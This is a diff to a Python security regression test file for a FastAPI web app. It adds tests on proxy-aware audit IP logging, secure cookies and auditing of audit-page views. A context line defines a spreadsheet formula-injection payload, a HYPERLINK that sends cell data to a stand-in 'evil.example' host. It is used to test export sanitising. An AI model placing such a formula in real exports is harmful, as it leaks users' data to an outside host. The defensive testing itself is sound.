@@ -5,6 +5,7 @@ failing (SQLite and PostgreSQL): formula injection into exports (finding 5), unh
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 from collections.abc import Iterator
 
@@ -13,7 +14,8 @@ import sqlalchemy as sa
 from fastapi import FastAPI
 from fastapi.testclient import TestClient
 
-from shidian.platform.db.schema import login_throttle
+from shidian.platform.db.schema import audit_events, login_throttle
+from shidian.web.middleware import LanguageAndHeaders
 from tests.web.conftest import csrf_of
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
@@ -89,3 +91,51 @@ def test_an_insurance_upload_named_dot_or_dot_dot_is_refused(web_app, client_for
             follow_redirects=False,
         )
         _chinese_4xx(answer)
+
+
+# Finding 9.
+
+
+def _last_audit(app: FastAPI, action: str) -> sa.RowMapping:
+    with app.state.engine.connect() as conn:
+        return (
+            conn.execute(
+                sa.select(audit_events)
+                .where(audit_events.c.action == action)
+                .order_by(audit_events.c.id.desc())
+            )
+            .mappings()
+            .first()
+        )
+
+
+def test_the_audit_ip_trusts_x_forwarded_for_only_from_configured_proxies(web_app, client_for):
+    admin = client_for("admin")
+    admin.get("/admin/audit.csv", headers={"X-Forwarded-For": "6.6.6.6"})
+    assert _last_audit(web_app, "admin.audit_exported")["ip"] == "testclient"  # the header is ignored
+    settings = web_app.state.settings
+    web_app.state.settings = dataclasses.replace(
+        settings, trusted_proxies=frozenset({"testclient", "10.0.0.2"})
+    )
+    try:
+        admin.get("/admin/audit.csv", headers={"X-Forwarded-For": "6.6.6.6, 198.51.100.9, 10.0.0.2"})
+    finally:
+        web_app.state.settings = settings
+    # behind trusted proxies: the last address that is not one of them (6.6.6.6 was client-made)
+    assert _last_audit(web_app, "admin.audit_exported")["ip"] == "198.51.100.9"
+
+
+def test_the_language_cookie_is_secure_when_secure_cookies_are_on(web_app, anonymous):
+    plain = anonymous.get("/login?lang=en").headers["set-cookie"]
+    assert "lang=en" in plain and "Secure" not in plain
+    secure_app = FastAPI()
+    secure_app.add_middleware(LanguageAndHeaders, secure=True)
+    secure_app.get("/")(lambda: {"ok": True})
+    cookie = TestClient(secure_app).get("/?lang=en").headers["set-cookie"]
+    assert "lang=en" in cookie and "; Secure" in cookie and "HttpOnly" in cookie
+
+
+def test_reading_the_audit_page_is_itself_audited(web_app, client_for):
+    client_for("admin").get("/admin/audit", params={"action": "auth.login_failed", "page": 1})
+    event = _last_audit(web_app, "admin.audit_browsed")
+    assert event["username"] == "admin" and event["detail"]["action_filter"] == "auth.login_failed"
